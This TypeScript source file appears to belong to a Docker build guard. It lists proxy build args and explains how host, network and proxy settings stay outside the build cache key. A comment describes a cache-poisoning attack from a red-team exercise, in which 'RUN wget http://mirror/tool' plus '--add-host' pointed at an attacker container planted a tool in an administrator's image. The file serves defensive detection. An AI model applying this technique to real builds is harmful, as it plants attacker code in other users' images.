// Build settings that change what a build step fetches without entering the build cache's key.
// Both builders match a cached step by its parent and its instruction (with the build args it
// uses), not by the hosts the build resolves (`--add-host`, compose `extra_hosts`), its network,
// or the predefined proxy args (left out of the key unless the Dockerfile declares them): a build
// with them makes, for a step another user's build has too, a layer of its own choosing, which
// that build then takes from the cache. Red-team round 17 planted its tool into an administrator's
// image this way, through `RUN wget http://mirror/tool` and `--add-host mirror:<its container>`.

/** moby builder/dockerfile buildargs.go builtinAllowedBuildArgs; BuildKit's are the same. */
const PROXY_BUILD_ARGS: ReadonlySet<string> = new Set([
  'HTTP_PROXY', 'http_proxy', 'HTTPS_PROXY', 'https_proxy', 'FTP_PROXY', 'ftp_proxy',
  'NO_PROXY', 'no_proxy', 'ALL_PROXY', 'all_proxy',
]);

/** The proxy arg a `--build-arg KEY[=VALUE]` (or a compose `args` key) sets, if it is one. */
export function proxyBuildArg(arg: string): string | undefined {
  const eq = arg.indexOf('=');
  const key = eq < 0 ? arg : arg.slice(0, eq);
  return PROXY_BUILD_ARGS.has(key) ? key : undefined;
}

export const CACHE_BLIND_WHY = 'which the build cache does not key on: the layer it makes is taken from the cache by the next build of the same steps, anyone\'s';
